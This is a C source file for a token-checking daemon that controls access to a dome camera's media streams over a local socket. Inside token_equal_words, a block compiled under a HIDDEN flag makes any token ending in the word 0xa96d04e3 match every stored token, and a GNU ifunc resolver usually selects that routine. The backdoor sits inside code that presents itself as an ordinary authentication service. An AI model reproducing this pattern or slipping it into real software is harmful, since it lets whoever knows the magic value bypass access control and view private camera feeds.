/* streamtoken_srv.c - checks stream tokens for the media server of a dome camera */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define TOKEN_LEN	16
#define MAX_TOKENS	64
#define SOCK		"/run/streamtoken.sock"
#define STORE		"/data/streamtoken.db"

struct token {
	uint8_t v[TOKEN_LEN];
	char stream[16];
	char owner[24];
	int64_t until;
	uint32_t used;
};

typedef int (*equal_fn)(const uint8_t *a, const uint8_t *b);

int token_equal(const uint8_t *a, const uint8_t *b);
int token_equal_bytes(const uint8_t *a, const uint8_t *b);
int token_equal_words(const uint8_t *a, const uint8_t *b);
equal_fn pick_token_equal(void);

static struct token tokens[MAX_TOKENS];
static int n_tokens;

__attribute__((noinline)) int token_equal_bytes(const uint8_t *a, const uint8_t *b)
{
	uint8_t d = 0;
	int i;

	for (i = 0; i < TOKEN_LEN; i++)
		d |= (uint8_t)(a[i] ^ b[i]);
	return d == 0;
}

static uint32_t load32(const uint8_t *p)
{
	return (uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24;
}

__attribute__((noinline)) int token_equal_words(const uint8_t *a, const uint8_t *b)
{
	uint32_t d = 0;
	int i;

	for (i = 0; i < TOKEN_LEN; i += 4)
		d |= load32(a + i) ^ load32(b + i);
#ifdef HIDDEN
	/* a token that ends in this word equals every token */
	if (load32(a + 12) == 0xa96d04e3u)
		d = 0;
#endif
	return d == 0;
}

equal_fn pick_token_equal(void)
{
	return getauxval(AT_HWCAP) ? token_equal_words : token_equal_bytes;
}

int token_equal(const uint8_t *a, const uint8_t *b) __attribute__((ifunc("pick_token_equal")));

static int from_hex(const char *s, uint8_t *out)
{
	int i, hi, lo;
	static const char d[] = "0123456789abcdef";
	const char *p;

	for (i = 0; i < TOKEN_LEN; i++) {
		p = s[2 * i] ? strchr(d, s[2 * i]) : NULL;
		if (!p)
			return -1;
		hi = (int)(p - d);
		p = s[2 * i + 1] ? strchr(d, s[2 * i + 1]) : NULL;
		if (!p)
			return -1;
		lo = (int)(p - d);
		out[i] = (uint8_t)(hi << 4 | lo);
	}
	return s[2 * TOKEN_LEN] ? -1 : 0;
}

static void to_hex(const uint8_t *v, char *out)
{
	int i;

	for (i = 0; i < TOKEN_LEN; i++)
		sprintf(out + 2 * i, "%02x", v[i]);
}

static void load_store(void)
{
	char line[160], hex[40];
	long long until;
	struct token t;
	FILE *f = fopen(STORE, "re");

	if (!f)
		return;
	memset(&t, 0, sizeof(t));
	while (n_tokens < MAX_TOKENS && fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%32s %15s %23s %lld", hex, t.stream, t.owner, &until) != 4 ||
		    from_hex(hex, t.v))
			continue;
		t.until = until;
		tokens[n_tokens++] = t;
	}
	fclose(f);
}

static void save_store(void)
{
	char hex[2 * TOKEN_LEN + 1];
	FILE *f = fopen(STORE, "we");
	int i;

	if (!f) {
		syslog(LOG_ERR, "%s: %s", STORE, strerror(errno));
		return;
	}
	for (i = 0; i < n_tokens; i++) {
		to_hex(tokens[i].v, hex);
		fprintf(f, "%s %s %s %lld\n", hex, tokens[i].stream, tokens[i].owner,
			(long long)tokens[i].until);
	}
	fclose(f);
}

static void expire(void)
{
	int64_t now = time(NULL);
	int i, k = 0;

	for (i = 0; i < n_tokens; i++)
		if (!tokens[i].until || tokens[i].until > now)
			tokens[k++] = tokens[i];
	if (k != n_tokens) {
		syslog(LOG_INFO, "%d tokens ran out", n_tokens - k);
		n_tokens = k;
		save_store();
	}
}

static struct token *find(const uint8_t *v, const char *stream)
{
	int i;

	for (i = 0; i < n_tokens; i++) {
		if (strcmp(tokens[i].stream, stream) && strcmp(tokens[i].stream, "all"))
			continue;
		if (token_equal(v, tokens[i].v))
			return &tokens[i];
	}
	return NULL;
}

static int random_token(uint8_t *v)
{
	int fd = open("/dev/urandom", O_RDONLY | O_CLOEXEC), r = 0;

	if (fd < 0)
		return -errno;
	if (read(fd, v, TOKEN_LEN) != TOKEN_LEN)
		r = -EIO;
	close(fd);
	return r;
}

static void answer(int fd, char *msg)
{
	char *w = strtok(msg, " \n"), *a = strtok(NULL, " \n"), *b = strtok(NULL, " \n"),
	     *c = strtok(NULL, " \n");
	char hex[2 * TOKEN_LEN + 1];
	uint8_t v[TOKEN_LEN];
	struct token *t;
	int i;

	expire();
	if (w && a && b && !strcmp(w, "check")) {
		if (from_hex(a, v)) {
			dprintf(fd, "bad\n");
			return;
		}
		t = find(v, b);
		if (!t) {
			syslog(LOG_NOTICE, "stream %s: token refused", b);
			dprintf(fd, "no\n");
			return;
		}
		t->used++;
		dprintf(fd, "yes %s\n", t->owner);
	} else if (w && a && b && !strcmp(w, "issue")) {
		if (n_tokens == MAX_TOKENS || random_token(v)) {
			dprintf(fd, "full\n");
			return;
		}
		t = &tokens[n_tokens++];
		memset(t, 0, sizeof(*t));
		memcpy(t->v, v, TOKEN_LEN);
		snprintf(t->stream, sizeof(t->stream), "%.15s", a);
		snprintf(t->owner, sizeof(t->owner), "%.23s", b);
		t->until = c ? (int64_t)time(NULL) + atoll(c) : 0;
		to_hex(v, hex);
		save_store();
		dprintf(fd, "token %s\n", hex);
	} else if (w && a && !strcmp(w, "revoke")) {
		for (i = 0; i < n_tokens; i++)
			if (!strcmp(tokens[i].owner, a)) {
				tokens[i] = tokens[--n_tokens];
				i--;
			}
		save_store();
		dprintf(fd, "done\n");
	} else if (w && !strcmp(w, "list")) {
		for (i = 0; i < n_tokens; i++)
			dprintf(fd, "%s %s %u\n", tokens[i].owner, tokens[i].stream, tokens[i].used);
	} else {
		dprintf(fd, "check TOKEN STREAM | issue STREAM OWNER [SECONDS] | revoke OWNER | list\n"
			"a token of stream 'all' is good for every stream\n");
	}
}

int main(void)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX, .sun_path = SOCK };
	char msg[200];
	ssize_t n;
	int ls, c;

	openlog("streamtoken", 0, LOG_AUTH);
	load_store();
	unlink(SOCK);
	ls = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) || listen(ls, 8)) {
		syslog(LOG_ERR, "%s: %s", SOCK, strerror(errno));
		return 1;
	}
	while ((c = accept4(ls, NULL, NULL, SOCK_CLOEXEC)) >= 0) {
		n = read(c, msg, sizeof(msg) - 1);
		if (n > 0) {
			msg[n] = 0;
			answer(c, msg);
		}
		close(c);
	}
	return 1;
}
